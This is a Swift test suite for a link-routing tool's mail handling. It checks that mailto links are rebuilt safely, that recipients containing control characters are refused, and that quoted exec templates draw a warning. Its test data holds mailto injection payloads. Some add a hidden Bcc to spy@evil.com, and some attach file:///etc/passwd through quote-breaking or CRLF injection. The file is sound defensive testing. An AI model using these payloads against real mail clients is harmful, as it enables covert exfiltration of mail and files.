import Testing
@testable import URLModel
@testable import RoutingCore
@testable import Catalog
@testable import ConfigLanguage
@testable import Routing
import Foundation

/// Issue 22, findings 4 and 5: a mailto whose recipient holds a control is refused before any
/// rule; a copy says it left Bcc out; the built-in mail targets hand each mailer a rebuilt mailto
/// URL as one argument, so neither injection link adds a Bcc or an attachment.
@Suite struct MailTargetTests {
    /// The mail programs' desktop entries as Debian 12 installs them (ids and schemes).
    static let catalog = AppCatalog(entries: [
        AppEntry(id: "aerc.desktop", name: "aerc", schemes: ["mailto"]),
        AppEntry(id: "claws-mail.desktop", name: "Claws Mail", schemes: ["mailto"]),
        AppEntry(id: "mutt.desktop", name: "mutt", schemes: ["mailto"]),
        AppEntry(id: "neomutt.desktop", name: "neomutt", schemes: ["mailto"]),
        AppEntry(id: "org.gnome.Evolution.desktop", name: "Evolution", schemes: ["mailto", "webcal"], icon: "evolution"),
        AppEntry(id: "org.gnome.Geary.desktop", name: "Geary", schemes: ["mailto"]),
        AppEntry(id: "org.kde.kmail2.desktop", name: "KMail", schemes: ["mailto"]),
        AppEntry(id: "thunderbird.desktop", name: "Thunderbird Mail", schemes: ["mailto"], icon: "thunderbird"),
    ])

    static func engine(_ text: String, catalog: AppCatalog = MailTargetTests.catalog) throws -> RuleEngine {
        RuleEngine(config: try ConfigLoader.load(text: text, path: "mail.toml", catalog: catalog))
    }

    /// The issue's two links and one with fields a mailer could act on, as each mailer gets them.
    @Test(arguments: [
        ("mailto:a@b.com?subject=x',bcc='spy@evil.com", "mailto:a@b.com?subject=x%27%2Cbcc%3D%27spy%40evil.com"),
        ("mailto:a@b.com?body=x%27,attachment=%27file:///etc/passwd",
         "mailto:a@b.com?body=x%27%2Cattachment%3D%27file%3A%2F%2F%2Fetc%2Fpasswd"),
        ("mailto:a@b.com?attach=/etc/passwd&from=boss@corp.example&subject=Hi%0D%0ABcc:%20spy@evil.com",
         "mailto:a@b.com?subject=Hi%20%20Bcc%3A%20spy%40evil.com"),
        ("mailto:A%20B%20%3Ca@b%C3%BCcher.de%3E,c@x.org?cc=d@x.org&bcc=e@x.org&body=line%0Anext",
         "mailto:A%20B%20%3Ca@xn--bcher-kva.de%3E,c@x.org?cc=d@x.org&bcc=e@x.org&body=line%0Anext"),
        // A recipient with an unbalanced quote goes in a field of its own, or it would swallow the next.
        ("mailto:%22a,b@x.org?to=c@y.org", "mailto:c@y.org?to=%22a%2Cb@x.org"),
    ])
    func everyMailerGetsTheRebuiltLinkAsOneArgument(link: String, handed: String) throws {
        let expected: [String: Launch] = [
            "thunderbird": .desktopEntryAdding(id: "thunderbird.desktop", arguments: ["-compose"], url: handed),
            "claws-mail": .desktopEntryAdding(id: "claws-mail.desktop", arguments: ["--compose"], url: handed),
            "evolution": .desktopEntry(id: "org.gnome.Evolution.desktop", action: nil, url: handed),
            "geary": .desktopEntry(id: "org.gnome.Geary.desktop", action: nil, url: handed),
            "kmail": .desktopEntry(id: "org.kde.kmail2.desktop", action: nil, url: handed),
            "mutt": .desktopEntry(id: "mutt.desktop", action: nil, url: handed),
            "neomutt": .desktopEntry(id: "neomutt.desktop", action: nil, url: handed),
            "aerc": .desktopEntry(id: "aerc.desktop", action: nil, url: handed),
        ]
        #expect(Set(expected.keys) == Set(Mailer.builtIn.map(\.name)))
        for (name, launch) in expected {
            let decision = try Self.engine("[default]\nopen = \"\(name)\"\n").decide(link, explain: true)
            #expect(decision.effect == .open(.mailer(name), launch), "\(name)")
            #expect(decision.finalURL == handed)
            // What the mailer reads back is what the link said, field by field.
            let original = MailtoURL(try ParsedURL(link)), reread = MailtoURL(try ParsedURL(handed))
            #expect(reread.addresses.map(\.ascii).sorted() == original.addresses.map(\.ascii).sorted())
            #expect(reread.addresses.count == original.addresses.count)
            #expect(reread.body == original.body)
            #expect(reread.otherFields.isEmpty)
        }
    }

    @Test func leftOutFieldsAreNamedInTheTrace() throws {
        let decision = try Self.engine("[default]\nopen = \"thunderbird\"\n").decide("mailto:a@b.com?attach=%2Fetc%2Fpasswd&subject=Hi", explain: true)
        #expect(decision.trace.contains(.changed(step: "mail target thunderbird: rebuilt from to, cc, bcc, subject and body; left out attach",
                                                 url: "mailto:a@b.com?subject=Hi")))
    }

    @Test func aMailerThatIsNotInstalledIsRefusedWithWhy() throws {
        let decision = try Self.engine("[default]\nopen = \"geary\"\n", catalog: AppCatalog()).decide("mailto:a@b.com")
        #expect(decision.error?.contains("Geary is not installed") == true, "\(decision.effect)")
        #expect(decision.error?.contains("org.gnome.Geary.desktop") == true)
    }

    @Test func aWebLinkSentToAMailerGoesToSystem() throws {
        let decision = try Self.engine("[default]\nopen = \"thunderbird\"\n").decide("https://example.org/")
        #expect(decision.effect == .open(.system, .system(url: "https://example.org/")))
    }

    @Test func mailersAreListedAndOfferedInPlaceOfTheirEntries() throws {
        let engine = try Self.engine("[default]\nsystem = true\n")
        let listed = TargetListing.targets(for: "mailto", config: engine.config).filter { $0.kind == .mailer }
        #expect(listed.map(\.target) == ["thunderbird", "evolution", "geary", "kmail", "claws-mail", "mutt", "neomutt", "aerc"])
        #expect(listed.first == TargetListing(target: "thunderbird", kind: .mailer, name: "Thunderbird Mail", app: "thunderbird.desktop"))
        #expect(TargetListing.targets(for: "https", config: engine.config).allSatisfy { $0.kind != .mailer })
        let asked = try engine.decide("mailto:a@b.com", forceAsk: true).choices
        let keys = asked.map(\.key)
        #expect(keys.contains("thunderbird") && keys.contains("mutt") && keys.contains("gmail"))
        #expect(!keys.contains("thunderbird.desktop") && !keys.contains("mutt.desktop"))
        let thunderbird = try #require(asked.first { $0.key == "thunderbird" })
        #expect(thunderbird.label == "Thunderbird Mail" && thunderbird.icon == "thunderbird")
        // Every listed name loads back as the same target.
        for listing in listed { #expect(Target(listing.target, in: engine.config) == .mailer(listing.target)) }
    }

    // MARK: - Templates that splice mail fields into a mailer's own syntax

    @Test(arguments: [
        (["thunderbird", "-compose", "to='{to}',subject='{subject}',body='{body}'"], "{to} is inside a quoted argument"),
        (["x", "--subject=\"{subject}\""], "{subject} is inside a quoted argument"),
        (["thunderbird", "-compose", "to={to},cc={cc}"], "{to} and {cc} share one argument"),
    ])
    func aMailFieldInsideAQuotedArgumentIsAWarning(exec: [String], warning: String) throws {
        let list = exec.map { "\"" + $0.replacingOccurrences(of: "\"", with: "\\\"") + "\"" }.joined(separator: ", ")
        let config = try ConfigLoader.load(text: "[apps.tb]\nexec = [\(list)]\n\n[default]\nopen = \"tb\"\n", path: "mail.toml")
        #expect(config.warnings.count == 1, "\(config.warnings)")
        let shown = config.warnings.first?.description ?? ""
        #expect(shown.hasPrefix("mail.toml:2:"), "\(shown)")
        #expect(shown.contains(warning) && shown.contains("open = \"thunderbird\""), "\(shown)")
    }

    @Test(arguments: [
        ["thunderbird", "-compose", "{url}"], ["mutt", "-s", "{subject}", "--", "{to}"], ["x", "'{url}'"], ["x", "--to={to}"],
    ])
    func fieldsInArgumentsOfTheirOwnAreFine(exec: [String]) throws {
        let list = exec.map { "\"\($0)\"" }.joined(separator: ", ")
        #expect(try ConfigLoader.load(text: "[apps.m]\nexec = [\(list)]\n", path: "mail.toml").warnings.isEmpty)
    }

    /// Why the warning exists: the README's old template, fed the issue's two links, builds a
    /// `-compose` argument with a Bcc and an attachment of the link's making.
    @Test func theQuotedTemplateReallyInjects() throws {
        let engine = try Self.engine("[apps.tb]\nexec = [\"thunderbird\", \"-compose\", \"to='{to}',subject='{subject}',body='{body}'\"]\n[default]\nopen = \"tb\"\n")
        let argv = try #require(engine.decide("mailto:a@b.com?subject=x',bcc='spy@evil.com").launch)
        #expect(argv == .argv(["thunderbird", "-compose", "to='a@b.com',subject='x',bcc='spy@evil.com',body=''"]))
    }

    // MARK: - Refused recipients and copies

    static let copyRules = "[[rules]]\nname = \"copy mail\"\nmatch.scheme = \"mailto\"\ncopy = true\n"

    @Test(arguments: [
        "mailto:a@b.com%0D%0ABcc:%20spy@evil.com",
        "mailto:ok@x.org?cc=a@b.com%0ABcc:spy@evil.com",
        "mailto:ok@x.org?bcc=a%00b@x.org",
        "mailto:a@b%E2%80%AE.com%01",
    ])
    func aRecipientWithAControlIsRefusedBeforeAnyRule(link: String) throws {
        let engine = try Self.engine(Self.copyRules + "[default]\nopen = \"thunderbird\"\n")
        let problem = try #require(MailtoURL(try ParsedURL(link)).problem)
        for explain in [false, true] {
            for forceAsk in [false, true] {
                let decision = try engine.decide(link, explain: explain, forceAsk: forceAsk)
                #expect(decision.effect == .refused(problem), "\(link)")
                #expect(decision.kind == .discard && decision.rule == nil)
                #expect(decision.trace.last == .refused(problem))
                #expect(!decision.trace.contains { if case .rule = $0 { return true } else { return false } })
            }
        }
        // Outside the rules too: the Copy method, a reopen to a target, an answer.
        for choice in [Choice.Action.copy, .open(.mailer("thunderbird")), .open(.system)] {
            #expect(try engine.decide(choice: choice, for: link).effect == .refused(problem))
        }
    }

    @Test func theRefusalSaysWhy() throws {
        let decision = try Self.engine(Self.copyRules).decide("mailto:a@b.com%0D%0ABcc:%20spy@evil.com")
        #expect(decision.error?.contains("line break (CR or LF)") == true)
        #expect(decision.error?.contains("hidden Bcc") == true)
    }

    @Test func aCopyCarriesThatItLeftBccOut() throws {
        let engine = try Self.engine(Self.copyRules)
        #expect(try engine.decide("mailto:a@x.org?bcc=s@x.org").effect == .copy(text: "a@x.org", leftOutBcc: true))
        #expect(try engine.decide("mailto:a@x.org?cc=c@x.org").effect == .copy(text: "a@x.org, c@x.org", leftOutBcc: false))
        #expect(try engine.decide(choice: .copy, for: "mailto:?bcc=s@x.org&subject=Hi").effect == .copy(text: "mailto:?subject=Hi", leftOutBcc: true))
        #expect(try engine.decide("mailto:a@x.org?bcc=s@x.org").copyLeftOutBcc)
    }
}

extension MailTargetTests {
    /// A mail with two bodies reaches the mailer with both, and the trace says why.
    @Test func repeatedBodiesAreJoinedAndTheTraceSaysSo() throws {
        let decision = try Self.engine("[default]\nopen = \"thunderbird\"\n").decide("mailto:a@b.com?body=one&body=two&subject=x&subject=y", explain: true)
        #expect(decision.trace.contains(.note("mailto gives body= and subject= more than once: the body= fields are joined, one per line; of the subject= fields the last stands")),
                "\(decision.trace)")
        guard case .open(_, let launch) = decision.effect else { Issue.record("not opened: \(decision.effect)"); return }
        #expect("\(launch)".contains("body=one%0D%0Atwo") && "\(launch)".contains("subject=y"), "\(launch)")
    }
}
